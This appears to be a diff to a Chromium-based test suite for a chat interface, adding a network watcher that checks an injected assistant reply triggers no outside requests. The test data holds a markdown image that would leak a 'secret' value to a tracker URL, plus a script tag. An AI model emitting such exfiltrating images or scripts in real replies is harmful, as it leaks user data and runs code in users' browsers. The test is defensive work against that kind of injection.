@@ -173,6 +173,11 @@ describe.skipIf(!existsSync(CHROMIUM))('chat failure paths in Chromium', () => {
       '![tracker](http://127.0.0.1:9/pixel.png?c=secret)',
     ].join('\n');
     scripted.push({ expectUser: 'pack', reply: { text: injection } });
+    const outside: string[] = [];
+    const watch = (request: { url(): string }) => {
+      if (!request.url().startsWith(server.url)) outside.push(request.url());
+    };
+    page.on('request', watch);
     await send('What should I pack?');
     await assistant(0).and(page.locator('[data-done=true]')).waitFor({ timeout: 60_000 });
     const text = assistant(0).locator('.text');
@@ -187,7 +192,9 @@ describe.skipIf(!existsSync(CHROMIUM))('chat failure paths in Chromium', () => {
     expect(await text.textContent()).toContain('<script>window.__injected = "script"</script>');
     // Images load only from this server: the tracker's URL is never requested.
     expect(await text.locator('img[src^="http"]').count()).toBe(0);
-    expect(await page.evaluate(() => (window as unknown as { __injected?: string }).__injected)).toBeUndefined();
+    expect(outside).toEqual([]);
+    page.off('request', watch);
+    expect(await page.evaluate(() => (globalThis as unknown as { __injected?: string }).__injected)).toBeUndefined();
     expect(scripted.failures).toEqual([]);
     await page.screenshot({ path: screenshotPath('markdown-with-an-injection-attempt'), fullPage: true });
   }, 60_000);
